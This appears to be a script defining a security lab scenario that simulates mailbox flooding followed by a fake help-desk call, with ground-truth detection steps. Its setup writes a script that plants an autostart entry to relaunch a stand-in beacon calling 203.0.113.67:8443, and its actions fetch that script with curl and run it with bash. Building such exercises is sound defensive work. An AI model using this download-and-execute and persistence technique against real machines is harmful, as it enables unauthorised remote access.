title="A mailbox flooded with sign-up mail; its owner, called by 'the help desk', downloads a remote-access tool and runs it"
what="clerk gets a dozen messages a day; then 160 confirmations of newsletters and shops within 35 minutes from as many senders. Told by telephone, clerk fetches the quick-support program with the browser (stand-in) from a support page outside, makes it executable in a terminal and starts it; it calls 203.0.113.67:8443. A script from the same page is fetched with curl afterwards and run with bash: it leaves an autostart entry."
host=ws3.example.org user=clerk daemons="cron sshd"
shift_plan="usual:3d flood:35m call:20m"
stand_ins=("browser: the download of a browser, /opt/webbrowser/webbrowser")
setup() {
  compile browser /opt/webbrowser/webbrowser
  cc -O1 -o "$base/out/www/QuickSupport-x86_64" "$lab/lib/stand-ins/beacon.c"
  printf '#!/bin/bash\nmkdir -p ~/.config/autostart ~/.local/bin\ncp ~/Downloads/QuickSupport-x86_64 ~/.local/bin/quicksupport\nprintf "[Desktop Entry]\\nType=Application\\nName=Quick Support\\nExec=%%s/.local/bin/quicksupport 203.0.113.67 8443\\n" "$HOME" > ~/.config/autostart/quicksupport.desktop\n~/.local/bin/quicksupport 203.0.113.67 8443\n' > "$base/out/www/keep.sh"
}
act() {
  local i n
  phase usual; small_talk 30
  phase flood
  for i in $(seq 1 160); do
    n=$(( (i * 37) % 250 + 2 ))
    mail_in --from "welcome@list$i.example.com" --to clerk@example.org --subject "Please confirm your subscription $i" --source "192.0.2.$n" --helo "host$n.example.com"
    [ $((i % 25)) != 0 ] || small_talk 1
  done
  phase call
  small_talk 2
  desktop_as clerk -- /opt/webbrowser/webbrowser 203.0.113.81 80 /QuickSupport-x86_64 Downloads/QuickSupport-x86_64
  desktop_wait
  sleep 2
  console_as clerk <<'L'
cd Downloads
ls
chmod +x QuickSupport-x86_64
./QuickSupport-x86_64 203.0.113.67 8443
%sleep 2
curl -fsSL http://cdn.example.com/keep.sh -o keep.sh
bash keep.sh
L
  mail_in --from helpdesk@example.net --to clerk@example.org --subject "Your case" --text "All is solved.\n"
  small_talk 1
}
truth() {
  mail_step usual 'to=<.*@example.org>.*status=sent' 'ordinary days'
  mail_step first 'from=<welcome@list1.example.com>' 'the flood begins'
  mail_step last 'from=<welcome@list160.example.com>' 'the last of 160'
  file_step download '(webbrowser|browser) .*QuickSupport' 'the tool is saved'
  exec_step run 'QuickSupport-x86_64' 'and started'
  net_step call '203.0.113.67:8443' 'it calls home'
  exec_step script 'bash keep.sh' 'a script is run too'
}
